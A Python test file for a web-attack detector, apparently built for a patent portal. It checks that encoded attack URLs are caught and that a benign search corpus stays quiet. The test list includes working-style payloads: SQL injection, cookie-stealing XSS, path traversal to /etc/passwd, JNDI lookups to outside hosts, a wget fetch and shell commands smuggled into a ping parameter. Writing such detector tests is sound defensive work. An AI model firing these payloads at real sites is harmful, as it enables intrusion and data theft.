"""Web attack patterns: encoded payloads are caught, a benign portal corpus stays quiet."""
from __future__ import annotations

import random
from urllib.parse import quote, quote_plus

import pytest
from prometheus_client import CollectorRegistry

from detectors.state import DetectorMetrics
from detectors.web_attack import WebAttackDetector, WebAttackRule, normalize

ALL = ["sqli", "xss", "traversal", "rfi", "cmdi", "shellshock", "jndi", "webshell"]


def detector(families=ALL):
    rule = WebAttackRule(
        type="web_attack", id="web", name="web", description="d", severity="high",
        tactic={"id": "TA0001", "name": "Initial Access"},
        technique={"id": "T1190", "name": "Exploit Public-Facing Application"},
        references=["https://attack.mitre.org/techniques/T1190/"], window_secs=60,
        families=families, reason={"en": "x", "zh": "x"})
    return WebAttackDetector(rule, DetectorMetrics(CollectorRegistry()), lambda: "now")


def families(url: str, **fields) -> set[str]:
    event = {"url.original": url, "source.ip": "192.0.2.1", **fields}
    return {family for family, _ in detector().inspect(event)}


ATTACKS = [
    ("/search?q=1'+or+'1'='1", "sqli"),
    ("/search?q=1%27%20OR%201%3D1--", "sqli"),
    ("/item?id=1%2527%2520union%2520select%2520password%2520from%2520users", "sqli"),  # double
    ("/item?id=1/**/UnIoN/**/SeLeCt/**/1,2,3", "sqli"),
    ("/item?id=1;WAITFOR DELAY '0:0:5'--", "sqli"),
    ("/item?id=1 and sleep(5)", "sqli"),
    ("/item?id=1 AND extractvalue(1,concat(0x7e,version()))", "sqli"),
    ("/q?s=<script>alert(1)</script>", "xss"),
    ("/q?s=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E", "xss"),
    ("/q?s=&lt;svg/onload=alert(1)&gt;", "xss"),
    ("/q?s=%u003Cscript%u003E", "xss"),
    ("/go?url=javascript:alert(1)", "xss"),
    ("/download?file=../../../../etc/passwd", "traversal"),
    ("/download?file=..%252f..%252f..%252fetc%252fpasswd", "traversal"),
    ("/download?file=....//....//windows/win.ini", "traversal"),
    ("/index.php?page=php://filter/convert.base64-encode/resource=index", "traversal"),
    ("/index.php?page=/etc/passwd%00", "traversal"),
    ("/index.php?page=http://198.51.100.4/shell.txt?", "rfi"),
    ("/ping?host=127.0.0.1;cat /etc/passwd", "cmdi"),
    ("/ping?host=127.0.0.1|id", "cmdi"),
    ("/ping?host=$(wget http://x/y)", "cmdi"),
    ("/ping?host=`whoami`", "cmdi"),
    ("/cgi-bin/x?a=;bash -c 'id'", "cmdi"),
    ("/api?x=${jndi:ldap://198.51.100.9/a}", "jndi"),
    ("/api?x=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x/a}", "jndi"),
    ("/api?x=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "jndi"),
    ("/api?x=${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}", "jndi"),
    ("/uploads/2026/11/avatar.php", "webshell"),
    ("/images/logo.jsp?cmd=whoami", "webshell"),
    ("/c99.php", "webshell"),
]


@pytest.mark.parametrize("url, family", ATTACKS)
def test_attack_payloads_are_found_after_decoding(url, family):
    assert family in families(url)


def test_headers_carry_shellshock_and_jndi():
    assert "shellshock" in families("/cgi-bin/status",
                                    **{"user_agent.original": "() { :; }; /bin/bash -c id"})
    assert "jndi" in families("/", **{"http.request.referrer": "${jndi:ldap://x/a}"})


def test_normalize_decodes_repeatedly_and_resolves_lookups():
    assert normalize("%25253Cscript%25253E") == "<script>"
    assert normalize("a+b%20%20c") == "a b c"
    assert normalize("${${lower:J}${upper:n}di:") == "${jndi:"
    assert normalize("UN/**/ION") == "un ion"


CHINESE = ["专利", "商标", "发明专利 申请", "实用新型", "外观设计", "人工智能 芯片", "锂电池 正极材料",
           "中药 组合物", "区块链", "新能源汽车 电池管理", "华为技术有限公司", "清华大学",
           "一种 图像 处理 方法", "5G 通信", "无人机", "医疗器械 (二类)", "C++ 编译器",
           "选择 更新 删除 按钮", "查询 and 检索", "from 中国 to 美国"]
LATIN = ["O'Brien", "O'Reilly Media", "McDonald's", "d'Alembert", "rock 'n' roll",
         "select committee", "union of workers", "drop shipping", "update firmware",
         "insert molding", "delete key", "script writing", "alert system", "cat toys & dog food",
         "tom & jerry", "1=1 equation", "a < b > c", "\"quoted phrase\"", "C# or F#",
         "AT&T", "R&D", "50% off", "what's new?", "or 1 more", "echo cancellation",
         "sleep apnea device", "benchmark results", "char array", "order by date",
         "ls engine", "id card reader", "ping pong table", "whoami app", "exec summary",
         "1,2,3", "--help", "#hashtag", "email@example.com", "<b>bold</b>"]
PATENTS = ["CN{n}A", "CN{n}B", "ZL20{y}1{n}.X", "US{n}B2", "WO20{y}/{n}", "EP{n}A1", "JP20{y}-{n}"]


def benign_urls(count: int, seed: int = 5):
    rng = random.Random(seed)
    for _ in range(count):
        kind = rng.random()
        n, y = rng.randrange(10**6, 10**8), rng.randrange(10, 27)
        if kind < 0.35:
            term = rng.choice(CHINESE + LATIN)
            if rng.random() < 0.3:
                term += " " + rng.choice(CHINESE + LATIN)
            encode = quote_plus if rng.random() < 0.7 else quote
            yield f"/search?q={encode(term)}&page={rng.randrange(1, 50)}&size={rng.choice((10, 20, 50))}"
        elif kind < 0.55:
            yield "/patent/" + rng.choice(PATENTS).format(n=n, y=y)
        elif kind < 0.65:
            yield f"/docs/CN{n}B/fulltext.pdf?download=1&lang={rng.choice(('zh', 'en'))}"
        elif kind < 0.72:
            yield f"/login?next={quote('/account/filings?sort=-date&page=' + str(n % 9))}"
        elif kind < 0.79:
            yield f"/api/v1/filing/{n}/status?fields=applicant,title&_={n}"
        elif kind < 0.85:
            yield f"/static/app.{n:x}.js"
        elif kind < 0.9:
            yield (f"/redirect?to={quote('https://portal.example.cn/trademark/' + str(n))}"
                   f"&ref=home")
        elif kind < 0.95:
            yield f"/trademark/{n}?q={quote_plus(rng.choice(LATIN))}&class={rng.randrange(1, 46)}"
        else:
            yield f"/uploads/2026/{rng.randrange(1, 13):02d}/{n}.{rng.choice(('pdf', 'png', 'jpg', 'docx'))}"


def test_benign_portal_corpus_stays_under_one_false_alert_per_100k():
    web = detector()
    noisy = [url for url in benign_urls(100_000)
             if web.inspect({"url.original": url, "user_agent.original":
                             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                             "(KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"})]
    assert len(noisy) <= 1, noisy[:5]
